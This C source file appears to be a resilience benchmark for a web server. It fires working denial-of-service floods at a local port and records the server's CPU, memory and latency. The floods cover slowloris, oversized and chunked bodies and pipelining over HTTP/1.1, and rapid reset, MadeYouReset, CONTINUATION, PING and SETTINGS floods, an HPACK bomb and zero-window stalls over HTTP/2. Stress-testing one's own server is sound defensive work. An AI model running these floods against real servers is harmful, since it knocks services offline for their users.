/*
 * attack.c - does to a server what nobody should, and says what that cost it and its readers.
 *
 *   build/bench/attack PORT PID SECONDS [clear|tls [WORD]]
 *
 * Prints a line an attack: its name, cores that the server used, megabytes that it grew by, p99 of
 * an honest reader before and meanwhile (ms), connections begun and those that the server ended.
 * The honest reader asks for the front 400 times a second on one connection, every sixteenth time
 * on a new one.  Where the system grants it, it goes before the attackers, which share its core.
 * With "tls" what HTTP/2 can be made to suffer, else HTTP/1.1 in the clear; with WORD only what has
 * it in its name.
 */
#include "peer.h"

#include <poll.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stdatomic.h>
#include <sys/mman.h>

#include <sys/wait.h>

enum { THREADS = 4, HELD_MAX = 10000, PERIOD_US = 2500, ASKED_MAX = 1 << 16, FRESH = 16 };

static int port, seconds;
static SSL_CTX *tls, *tls_h2;
static struct counts {
    atomic_int begun, ended;
} * counts; /* shared with the attackers */

/* --- the honest reader --- */

static uint32_t asked[ASKED_MAX];
static size_t asked_n;
static atomic_bool reading;

/* One page; false when it did not come. */
static bool read_page(struct peer *p)
{
    static const char ask[] = "GET / HTTP/1.1\r\nHost: localhost\r\n\r\n";
    static char page[512 * 1024];
    size_t got = 0, whole = SIZE_MAX;

    if (!peer_say(p, ask, sizeof ask - 1))
        return false;
    while (got < whole) {
        ssize_t n = peer_hear(p, page + got, sizeof page - 1 - got);
        char *end, *length;

        if (n <= 0)
            return false;
        got += (size_t)n;
        page[got] = '\0';
        if (whole == SIZE_MAX && (end = strstr(page, "\r\n\r\n")) != NULL &&
            (length = strcasestr(page, "\r\nContent-Length:")) != NULL)
            whole = (size_t)(end + 4 - page) + strtoull(length + 17, NULL, 10);
    }
    return strncmp(page, "HTTP/1.1 200 ", 13) == 0;
}

static void *honest(void *of)
{
    struct peer p = {.fd = -1};
    int64_t next = now_us();

    (void)of;
    sched_setscheduler(0, SCHED_FIFO, &(struct sched_param){.sched_priority = 20});
    for (unsigned i = 0; atomic_load(&reading); i++) {
        int64_t began = now_us();

        if (i % FRESH == 0)
            peer_close(&p);
        if ((p.fd < 0 && !peer_open(&p, port, 1, tls)) || !read_page(&p)) {
            fprintf(stderr, "attack: an honest reader was refused\n");
            peer_close(&p);
        }
        if (asked_n < ASKED_MAX)
            asked[asked_n++] = (uint32_t)(now_us() - began);
        next += PERIOD_US;
        if (next > now_us())
            usleep((useconds_t)(next - now_us()));
        else
            next = now_us();
    }
    peer_close(&p);
    return NULL;
}

static int by_size(const void *x, const void *y)
{
    uint32_t a = *(const uint32_t *)x, b = *(const uint32_t *)y;

    return (a > b) - (a < b);
}

/* --- what the server takes --- */

struct taken {
    double cpu_s, mb; /* so far, and at the most */
    double p99_ms;
};

static double cpu_of(int pid)
{
    char name[64], line[1024] = "", *at;
    unsigned long long user = 0, system = 0;
    FILE *f;

    snprintf(name, sizeof name, "/proc/%d/stat", pid);
    f = fopen(name, "r");
    if (f == NULL || fgets(line, sizeof line, f) == NULL || (at = strrchr(line, ')')) == NULL)
        give_up("the server is gone");
    fclose(f);
    sscanf(at + 1, " %*c %*d %*d %*d %*d %*d %*u %*u %*u %*u %*u %llu %llu", &user, &system);
    return (double)(user + system) / (double)sysconf(_SC_CLK_TCK);
}

static double mb_of(int pid)
{
    return (double)resident(pid) / (1 << 20);
}

/* The honest reader alone, or beside what goes on. */
static struct taken watch(int pid, int64_t us)
{
    struct taken t = {.cpu_s = cpu_of(pid)};
    int64_t end = now_us() + us;
    pthread_t reader;

    asked_n = 0;
    atomic_store(&reading, true);
    pthread_create(&reader, NULL, honest, NULL);
    while (now_us() < end) {
        double mb = mb_of(pid);

        t.mb = mb > t.mb ? mb : t.mb;
        usleep(50 * 1000);
    }
    atomic_store(&reading, false);
    pthread_join(reader, NULL);
    t.cpu_s = cpu_of(pid) - t.cpu_s;
    qsort(asked, asked_n, sizeof *asked, by_size);
    t.p99_ms = asked_n == 0 ? 0 : asked[(asked_n - 1) * 99 / 100] / 1000.0;
    return t;
}

/* --- attackers --- */

struct attack {
    const char *name;
    void (*first)(struct block *b); /* what a connection begins with */
    void (*unit)(struct block *b,
                 uint32_t *stream); /* then this, again and again; NULL: it waits */
    int held;     /* connections that stay open side by side; 0: one after the other */
    int pause_us; /* between two bytes of each that is held; 0: nothing more is sent */
    bool reads;   /* takes the answers */
};

static void get_slowly(struct block *b)
{
    put(b, "GET / HTTP/1.1\r\nHost: localhost\r\nX-", 36);
}

static void a_letter(struct block *b, uint32_t *stream)
{
    (void)stream;
    put(b, "a", 1);
}

static void ask(struct block *b, uint32_t *stream)
{
    (void)stream;
    put(b, "GET / HTTP/1.1\r\nHost: localhost\r\n\r\n", 35);
}

static void ask_much(struct block *b)
{
    for (int i = 0; i < 200; i++)
        ask(b, NULL);
}

static void long_head(struct block *b)
{
    put(b, "GET / HTTP/1.1\r\nHost: localhost\r\n", 33);
}

static void long_field(struct block *b, uint32_t *stream)
{
    char line[1024];

    (void)stream;
    memset(line, 'x', sizeof line);
    memcpy(line, "X-A: ", 5);
    memcpy(line + sizeof line - 2, "\r\n", 2);
    put(b, line, sizeof line);
}

static void post(struct block *b, const char *how)
{
    char head[256];

    put(b, head,
        (size_t)snprintf(head, sizeof head,
                         "POST /desk/sign-in HTTP/1.1\r\nHost: localhost\r\n"
                         "Content-Type: application/x-www-form-urlencoded\r\n%s\r\n\r\n",
                         how));
}

static void long_body(struct block *b)
{
    post(b, "Content-Length: 8000000000");
}

static void chunked_body(struct block *b)
{
    post(b, "Transfer-Encoding: chunked");
}

static void a_chunk(struct block *b, uint32_t *stream)
{
    (void)stream;
    put(b, "1\r\nx\r\n", 6);
}

static void hello(struct block *b)
{
    put_hello(b, NULL, 0);
}

static void hello_with_a_form(struct block *b)
{
    hello(b);
    put_request(b, 1, 3, "/desk/sign-in", END_HEADERS);
}

static void hello_with_half_a_head(struct block *b)
{
    hello(b);
    put_request(b, 1, 2, "/", END_STREAM);
}

/* The other side may send nothing, and is asked for a hundred pages. */
static void hello_without_window(struct block *b)
{
    put_hello(b, (unsigned char[]){0, 4, 0, 0, 0, 0}, 6);
    for (uint32_t i = 0; i < 100; i++)
        put_request(b, 2 * i + 1, 2, "/", END_STREAM | END_HEADERS);
}

static void reset(struct block *b, uint32_t *stream)
{
    put_request(b, *stream, 2, "/search?q=harbour", END_STREAM | END_HEADERS);
    put_frame(b, RST_STREAM, 0, *stream, "\0\0\0\10", 4);
    *stream += 2;
}

static void provoke(struct block *b, uint32_t *stream)
{
    put_request(b, *stream, 2, "/search?q=harbour", END_STREAM | END_HEADERS);
    put_frame(b, WINDOW_UPDATE, 0, *stream, "\177\377\377\377", 4);
    *stream += 2;
}

static void continuation(struct block *b, uint32_t *stream)
{
    (void)stream;
    put_frame(b, CONTINUATION, 0, 1, "\0\3x-a\1b", 7);
}

static void empty_data(struct block *b, uint32_t *stream)
{
    (void)stream;
    put_frame(b, DATA, 0, 1, NULL, 0);
}

static void ping(struct block *b, uint32_t *stream)
{
    (void)stream;
    put_frame(b, PING, 0, 0, "12345678", 8);
}

static void settings(struct block *b, uint32_t *stream)
{
    (void)stream;
    put_frame(b, SETTINGS, 0, 0, "\0\4\0\0\377\377", 6);
}

/* One field of 3 KB is remembered, then named again and again. */
static void bomb(struct block *b, uint32_t *stream)
{
    static unsigned char head[16000];
    size_t n = pack_head(head, 2, "/");

    memcpy(head + n, "\x40\x06x-bomb\x7f\xb9\x16", 11); /* 127 + 57 + 22 * 128 = 3000 */
    memset(head + n + 11, 'a', 3000);
    memset(head + n + 3011, 0x80 | 62, sizeof head - n - 3011);
    put_frame(b, HEADERS, END_STREAM | END_HEADERS, *stream, head, sizeof head);
    *stream += 2;
}

static const struct attack in_the_clear[] = {
    {"slow-loris, 2,000 connections, a byte a second each", get_slowly, a_letter, 2000, 1000000,
     false},
    {"10,000 idle connections", NULL, NULL, HELD_MAX, 0, false},
    {"500 clients that send byte by byte", get_slowly, a_letter, 500, 1000, false},
    {"heads without an end", long_head, long_field, 0, 0, false},
    {"bodies of 8 GB", long_body, long_field, 0, 0, false},
    {"bodies in chunks of one byte", chunked_body, a_chunk, 0, 0, false},
    {"pipelining, answers taken", NULL, ask, 0, 0, true},
    {"pipelining, answers never taken, 500 connections", ask_much, NULL, 500, 0, false},
};
static const struct attack over_http2[] = {
    {"rapid reset", hello, reset, 0, 0, false},
    {"MadeYouReset", hello, provoke, 0, 0, false},
    {"CONTINUATION flood", hello_with_half_a_head, continuation, 0, 0, false},
    {"empty DATA flood", hello_with_a_form, empty_data, 0, 0, false},
    {"PING flood", hello, ping, 0, 0, false},
    {"SETTINGS flood", hello, settings, 0, 0, false},
    {"HPACK bomb", hello, bomb, 0, 0, false},
    {"zero-window stalls, 500 connections of 100 requests", hello_without_window, NULL, 500, 0,
     false},
};

static bool begin(struct peer *p, const struct attack *a)
{
    static _Thread_local struct block b;

    if (!peer_open(p, port, 1, tls_h2))
        return false;
    atomic_fetch_add(&counts->begun, 1);
    b.n = 0;
    if (a->first != NULL)
        a->first(&b);
    return b.n == 0 || peer_say(p, b.v, b.n);
}

/* In the clear: say what is taken at once, and take what has come. */
static bool converse(struct peer *p, const struct block *b)
{
    struct pollfd ready = {p->fd, POLLIN | POLLOUT, 0};
    ssize_t n;

    for (size_t said = 0; said < b->n;) {
        if (poll(&ready, 1, PATIENCE_US / 1000) <= 0)
            return false;
        while ((n = recv(p->fd, NULL, 1 << 20, MSG_DONTWAIT | MSG_TRUNC)) > 0)
            ;
        if (n == 0 || (errno != EAGAIN && errno != EWOULDBLOCK))
            return false;
        n = send(p->fd, b->v + said, b->n - said, MSG_NOSIGNAL | MSG_DONTWAIT);
        said += n > 0 ? (size_t)n : 0;
    }
    return true;
}

/* One connection after the other, each until the server has enough. */
static void flood(const struct attack *a)
{
    static _Thread_local struct block b;
    struct peer p;

    for (;;) {
        uint32_t stream = 1;
        bool goes_on = begin(&p, a);

        while (goes_on) {
            for (b.n = 0; b.n < BLOCK / 2;)
                a->unit(&b, &stream);
            goes_on = a->reads ? converse(&p, &b) : peer_say(&p, b.v, b.n);
        }
        atomic_fetch_add(&counts->ended, 1);
        peer_close(&p);
    }
}

/* Many at once; those that the server ends come again. */
static void hold(const struct attack *a, int n)
{
    struct peer *all = calloc((size_t)n, sizeof *all);
    bool failed = all == NULL;

    for (int i = 0; i < n && !failed; i++)
        failed = !begin(&all[i], a) && all[i].fd < 0;
    for (int i = 0; !failed; i = (i + 1) % n) {
        struct block b = {0};

        if (a->unit != NULL)
            a->unit(&b, NULL);
        errno = 0;
        if ((b.n > 0 && !peer_say(&all[i], b.v, b.n)) || peer_is_gone(&all[i])) {
            atomic_fetch_add(&counts->ended, 1);
            peer_close(&all[i]);
            failed = !begin(&all[i], a) && all[i].fd < 0;
        }
        usleep(a->pause_us > n ? (useconds_t)(a->pause_us / n) : 10);
    }
    pause();
}

static void *attacker(void *of)
{
    const struct attack *a = of;

    if (a->held > 0)
        hold(a, a->held / THREADS);
    else
        flood(a);
    return NULL;
}

static pid_t attack_in_the_background(const struct attack *a)
{
    pid_t child = fork();

    if (child != 0)
        return child;
    for (int i = 0; i < THREADS; i++)
        pthread_create(&(pthread_t){0}, NULL, attacker, (void *)(uintptr_t)a);
    for (;;)
        pause();
}

static void measure(const struct attack *a, int pid)
{
    struct taken before = watch(pid, 1000000);

    *counts = (struct counts){0};

    int64_t began = now_us();
    pid_t child = attack_in_the_background(a);
    struct taken during = watch(pid, (int64_t)seconds * 1000000);
    double took = (double)(now_us() - began) / 1e6;

    kill(child, SIGKILL);
    waitpid(child, NULL, 0);
    printf("| %s | %.2f | %.0f | %.2f | %.2f | %.1f× | %d | %d |\n", a->name, during.cpu_s / took,
           during.mb > before.mb ? during.mb - before.mb : 0, before.p99_ms, during.p99_ms,
           during.p99_ms / before.p99_ms, counts->begun, counts->ended);
    fflush(stdout);
}

int main(int argc, char **argv)
{
    bool is_tls = argc > 4 && strcmp(argv[4], "tls") == 0;
    const char *word = argc > 5 ? argv[5] : "";
    const struct attack *all = is_tls ? over_http2 : in_the_clear;
    size_t n = is_tls ? sizeof over_http2 / sizeof *all : sizeof in_the_clear / sizeof *all;

    if (argc < 4 || argc > 6 || (argc > 4 && !is_tls && strcmp(argv[4], "clear") != 0)) {
        fprintf(stderr, "usage: attack PORT PID SECONDS [clear|tls [WORD]]\n");
        return 2;
    }
    port = atoi(argv[1]);
    seconds = atoi(argv[3]);
    signal(SIGPIPE, SIG_IGN);
    counts = mmap(NULL, sizeof *counts, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
    if (is_tls) {
        tls = peer_tls("http/1.1");
        tls_h2 = peer_tls("h2");
    }
    for (size_t i = 0; i < n; i++)
        if (strstr(all[i].name, word) != NULL)
            measure(&all[i], atoi(argv[2]));
    return 0;
}
